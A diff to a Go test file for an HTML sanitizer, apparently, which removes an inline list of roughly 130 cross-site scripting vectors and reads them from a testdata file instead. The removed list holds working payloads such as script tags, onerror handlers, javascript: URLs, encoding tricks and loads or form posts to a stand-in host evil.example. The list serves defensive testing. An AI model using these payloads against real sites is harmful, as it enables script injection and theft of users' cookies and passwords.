@@ -1,149 +1,41 @@
 package markup
 
-import "testing"
+import (
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+)
 
-// vectors are ways to make a page act that have worked somewhere: the table of OWASP's
-// filter evasion sheet, html5sec, mutation by re-parsing, and attempts at this package's own marks.
-var vectors = []string{
-	`<script>alert(1)</script>`,
-	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
-	`<script src=data:text/javascript,alert(1)>`,
-	`<script>alert(1)`,
-	`<script/xss src="//evil.example/x.js"></script>`,
-	`<<script>alert(1);//<</script>`,
-	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
-	`<script>/*--><!--*/</script><script>alert(1)</script>`,
-	`<script ~~~>alert(0%0)</script ~~~>`,
-	`<script/&Tab; src='https://evil.example/x'/&Tab;></script>`,
-	`<img src=x onerror=alert(1)>`,
-	`<img src=x:alert(alt) onerror=eval(src) alt=0>`,
-	`<img """><script>alert("x")</script>">`,
-	`<img src=javascript:alert(1)>`,
-	`<img src="jav	ascript:alert(1);">`,
-	`<img src="jav&#x0A;ascript:alert(1);">`,
-	`<img src=" &#14;  javascript:alert(1);">`,
-	`<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`,
-	`<img src=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>`,
-	`<img/onerror=alert(1)/src=x>`,
-	"<img src=`javascript:alert(1)`>",
-	`<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">`,
-	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
-	`<img src="data:text/html,<script>alert(1)</script>">`,
-	`<img src="data:image/png;base64,aGk=" onload=alert(1)>`,
-	`<img src="data:image/png,<svg onload=alert(1)>">`,
-	`<img srcset="x 1x, javascript:alert(1) 2x" src=a.png>`,
-	`<img alt='" onerror="alert(1)' src=a.png>`,
-	`<img alt="><script>alert(1)</script>" src=a.png>`,
-	`<img title='"=hoego:0"' alt='="hoego:0"' src=a.png>`,
-	`<a href="javascript:alert(1)">x</a>`,
-	`<a href="JaVaScRiPt:alert(1)">x</a>`,
-	`<a href=" javascript:alert(1)">x</a>`,
-	"<a href=\"\x01javascript:alert(1)\">x</a>",
-	"<a href=\"java\x00script:alert(1)\">x</a>",
-	"<a href=\"java\nscript:alert(1)\">x</a>",
-	`<a href="&#x6A;avascript:alert(1)">x</a>`,
-	`<a href="javascript&colon;alert(1)">x</a>`,
-	`<a href="java&Tab;script&NewLine;:alert(1)">x</a>`,
-	`<a href="vbscript:msgbox(1)">x</a>`,
-	`<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
-	`<a href="feed:javascript:alert(1)">x</a>`,
-	`<a href="view-source:javascript:alert(1)">x</a>`,
-	`<a href="blob:https://evil.example/1">x</a>`,
-	`<a href="file:///etc/passwd">x</a>`,
-	`<a href="obsidian://open?vault=x">x</a>`,
-	`<a href="hoego:0">x</a>`,
-	`<a href="HOEGO:0">x</a><a href="a.md">y</a>`,
-	`<a href='x" onclick="alert(1)'>x</a>`,
-	`<a href="http://evil.example/&quot; onmouseover=&quot;alert(1)">x</a>`,
-	`<a href="https://user:pass@evil.example/">x</a>`,
-	`<a href="//evil.example" target=_blank ping="//evil.example">x</a>`,
-	`<a href="\\evil.example\x">x</a>`,
-	`<a href="/\evil.example">x</a>`,
-	`<a onmouseover="alert(document.cookie)">x</a>`,
-	`<a href=x xlink:href="javascript:alert(1)">x</a>`,
-	`<a data-name="javascript:alert(1)">x</a>`,
-	`<div data-embed="<script>alert(1)</script>"></div>`,
-	`<img data-name='x" onerror="alert(1)'>`,
-	`<body onload=alert(1)>x`,
-	`<body background="javascript:alert(1)">`,
-	`<svg onload=alert(1)>`,
-	`<svg><script>alert(1)</script></svg>`,
-	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
-	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
-	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
-	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
-	`<math href="javascript:alert(1)">x</math>`,
-	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
-	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
-	`<title><img title="</title><img src=x onerror=alert(1)>">`,
-	`<textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
-	`<xmp><p title="</xmp><svg/onload=alert(1)>">`,
-	`<noembed><img src="</noembed><img src=x onerror=alert(1)>"></noembed>`,
-	`<plaintext><img src=x onerror=alert(1)>`,
-	`<iframe src="javascript:alert(1)"></iframe>`,
-	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
-	`<iframe src="https://evil.example/"></iframe>`,
-	`<iframe src="https://www.youtube.com/embed/x&quot;onload=&quot;alert(1)"></iframe>`,
-	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
-	`<embed src="javascript:alert(1)">`,
-	`<applet code="x"><param name=a></applet>`,
-	`<video><source onerror="alert(1)"></video>`,
-	`<video src=x onerror=alert(1) poster=javascript:alert(1)></video>`,
-	`<audio src="javascript:alert(1)" autoplay></audio>`,
-	`<link rel=stylesheet href="//evil.example/x.css">`,
-	`<style>@import '//evil.example/x.css';</style>`,
-	`<style>body{background:url("javascript:alert(1)")}</style>`,
-	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
-	`<base href="//evil.example/">`,
-	`<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>`,
-	`<input autofocus onfocus=alert(1)>`,
-	`<input type="image" src="javascript:alert(1)">`,
-	`<input type=checkbox onclick=alert(1)>`,
-	`<isindex action="javascript:alert(1)" type=image>`,
-	`<select onfocus=alert(1) autofocus><option>x</select>`,
-	`<details open ontoggle=alert(1)>x</details>`,
-	`<marquee onstart=alert(1)>x</marquee>`,
-	`<div style="background:url(javascript:alert(1))">x</div>`,
-	`<div style="width:expression(alert(1))">x</div>`,
-	`<div style="position:fixed;inset:0;text-align:center">x</div>`,
-	`<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>`,
-	`<div class="hoego-dialog chroma x onclick">x</div>`,
-	`<p id="hoego-search">x</p><a href="#hoego-search">y</a>`,
-	`<h2 id="hoego-nav">x</h2>`,
-	`<p id='x" onclick="alert(1)'>x</p><a href="#x">y</a>`,
-	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
-	`<!--><img src=x onerror=alert(1)>-->`,
-	`<!--!><img src=x onerror=alert(1)>`,
-	`<!-- --!><img src=x onerror=alert(1)>`,
-	`<![CDATA[<script>alert(1)</script>]]>`,
-	`<?xml version="1.0"?><?php echo "<script>" ?>`,
-	`<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;`,
-	`<x onclick=alert(1)>x</x>`,
-	`<my-element onclick=alert(1)>x</my-element>`,
-	`<a<b href="javascript:alert(1)">x</a>`,
-	`<img/src="x"/onerror="alert(1)"`,
-	`<img src="x` + "`" + `<script>alert(1)</script>"` + "`>",
-	`<pre><code class="language-x&quot; onclick=&quot;alert(1)">&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>`,
-	`<pre><code class="language-html">&lt;script&gt;alert("1")&lt;/script&gt;</code></pre>`,
-	`<code data-lang="&quot;><script>alert(1)</script>">x</code>`,
-	`<p data-l='1"><script>alert(1)</script>'>x</p>`,
-	`<!--l:1--><script>alert(1)<!--l:2--></script>`,
-	`&lt;script&gt;alert(1)&lt;/script&gt;`,
-	`&amp;lt;script&amp;gt;`,
-	`<span class="math">\href{javascript:alert(1)}{x}</span>`,
-	`<a href="tel:1&quot;onclick=alert(1)">x</a><a href="mailto:a@b.example?subject=<script>">y</a>`,
-	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-	"<a href=\"\u2028javascript:alert(1)\">x</a>",
-	"<a href=\"\u00a0javascript:alert(1)\">x</a>",
-	"\xff\xfe<\x00s\x00c\x00r\x00i\x00p\x00t\x00>",
+// vectors returns the ways to make a page act that testdata/xss.txt lists.
+func vectors(t testing.TB) []string {
+	t.Helper()
+	data, err := os.ReadFile(filepath.Join("testdata", "xss.txt"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var all []string
+	for line := range strings.Lines(string(data)) {
+		line = strings.TrimSuffix(line, "\n")
+		if line == "" || strings.HasPrefix(line, "// ") {
+			continue
+		}
+		if text, err := strconv.Unquote(line); err == nil && line[0] == '"' {
+			line = text
+		}
+		all = append(all, line)
+	}
+	return all
 }
 
 // TestHarmless runs every vector through shape and looks at what a browser would make of the result.
 func TestHarmless(t *testing.T) {
-	if len(vectors) < 80 {
-		t.Fatalf("only %d vectors", len(vectors))
+	all := vectors(t)
+	if len(all) < 300 {
+		t.Fatalf("only %d vectors", len(all))
 	}
-	for _, v := range vectors {
+	for _, v := range all {
 		checkSound(t, v)
 		checkSound(t, `<p data-l="1">앞 `+v+` 뒤</p><p data-l="2">끝</p>`)
 		checkSound(t, `<!--l:1-->`+v+"\n<p data-l=\"2\">끝</p>\n")
